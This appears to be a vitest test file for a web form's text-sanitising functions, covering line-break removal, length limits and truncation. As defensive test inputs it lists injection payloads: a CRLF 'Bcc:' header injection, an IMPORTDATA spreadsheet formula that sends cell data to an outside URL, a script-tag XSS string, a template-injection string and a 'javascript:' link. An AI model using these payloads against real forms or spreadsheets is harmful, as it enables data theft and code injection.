import { expect, test } from 'vitest'
import { asLine, readText, shortened } from '../../../functions/pages/forms/read-text.ts'

test.for([
  {
    what: 'a carriage return',
    typed: 'Leadership\r\nBcc: x@example.org',
    line: 'Leadership Bcc: x@example.org',
  },
  { what: 'a lone carriage return', typed: 'one\rtwo', line: 'one two' },
  { what: 'a line separator', typed: 'one\u2028two\u2029three', line: 'one two three' },
  { what: 'a next line', typed: 'one\u0085two', line: 'one two' },
  { what: 'a vertical tab', typed: 'one\u000Btwo', line: 'one two' },
  { what: 'a null', typed: 'one\u0000two', line: 'one two' },
  { what: 'a wide space', typed: 'one\u00A0\u3000two', line: 'one two' },
  { what: 'a direction override', typed: 'one\u202Etwo\u202C', line: 'onetwo' },
  { what: 'zero-width characters', typed: '\uFEFFo\u200Bn\u200De', line: 'one' },
  { what: 'half a character', typed: 'one\uD800', line: 'one\uFFFD' },
  { what: 'a formula', typed: '=IMPORTDATA("https://x/?"&B2)', line: '=IMPORTDATA("https://x/?"&B2)' },
  { what: 'HTML', typed: '</td><script>alert(1)</script>', line: '</td><script>alert(1)</script>' },
  {
    what: 'a template',
    typed: "{{constructor.constructor('x')()}} %s%n",
    line: "{{constructor.constructor('x')()}} %s%n",
  },
  { what: 'a strange link', typed: 'javascript:alert(1)', line: 'javascript:alert(1)' },
])('$what in a title leaves one line of plain text', ({ typed, line }) => {
  const title = asLine(typed)

  expect(title).toBe(line)
})

test('paragraphs stay paragraphs, however their lines end', () => {
  const reading = readText(' One. \r\nTwo.\r\rThree.\u2028Four.\u0007 \n', 'Anything else?')

  expect(reading).toEqual({ is: 'One.\nTwo.\n\nThree.\nFour.' })
})

test.for([
  { length: 5_000, refused: false },
  { length: 5_001, refused: true },
  { length: 1_000_000, refused: true },
])('an answer of $length characters is refused: $refused', ({ length, refused }) => {
  const reading = readText('a'.repeat(length), 'How will it help?')

  expect('say' in reading).toBe(refused)
})

test('somebody who wrote too much is told which answer and what to do', () => {
  const reading = readText('a'.repeat(5_001), 'How will it help?')

  expect(reading).toEqual({
    say: 'Your answer to “How will it help?” is longer than 5,000 characters. Write a shorter one, and keep the rest for the people you will talk to.',
  })
})

test.for([
  ['short', 'short'],
  ['a'.repeat(60), 'a'.repeat(60)],
  ['a'.repeat(61), `${'a'.repeat(60)}…`],
  [`${'a'.repeat(59)}😀😀`, `${'a'.repeat(59)}😀…`],
  ['a\n'.repeat(1_000), `${'a '.repeat(30).trim()}…`],
] as const)('what was typed is shown back on one line, cut between letters', ([typed, shown]) => {
  const beginning = shortened(typed)

  expect(beginning).toBe(shown)
})
